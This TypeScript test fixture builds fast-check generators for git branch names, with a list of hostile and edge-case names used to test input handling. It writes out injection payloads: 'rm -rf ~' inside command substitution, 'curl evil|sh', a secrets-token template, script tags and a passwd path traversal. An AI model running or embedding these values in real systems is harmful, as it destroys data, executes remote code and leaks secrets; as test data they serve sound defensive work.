/** Names of branches as git allows them: of people, of attackers, and near misses of each other. */
import * as fc from 'fast-check';

export const hostileBranches = [
  'feature/$(rm -rf ~)',
  'feature/`id`',
  'feature/a;curl evil|sh',
  'feature/"quoted"',
  "feature/it's",
  'feature/${{ secrets.TOKEN }}',
  'feature/<script>alert(1)</script>',
  'feature/](javascript:alert(1))',
  'feature/--><b>',
  'feature/@acme/admins',
  'feature/a\nb',
  '--help',
  '-x',
  '../../etc/passwd',
  'feature/Auth',
  'FEATURE/AUTH',
  'feature/auth_x',
  'feature/auth.x',
  'feature/auth/x',
  'feature/機能',
  '機能',
  '🚀',
  'feature/café',
  'feature/cafe\u0301',
  '1234',
  'feature/1234',
  'a'.repeat(200),
  `feature/${'a'.repeat(200)}`,
  `feature/${'a'.repeat(199)}b`,
  '\ud800',
  '\udfff',
];

export const branches = fc
  .oneof(
    fc.string({ unit: 'binary', minLength: 1, maxLength: 250 }),
    fc.stringMatching(/^[a-zA-Z0-9/_.-]{1,40}$/),
    fc.stringMatching(/^(feature|fix)[/-][a-c](-[a-c2]{1,8})?$/),
    fc.constantFrom(...hostileBranches),
  )
  .filter((branch) => !branch.startsWith('refs/'));
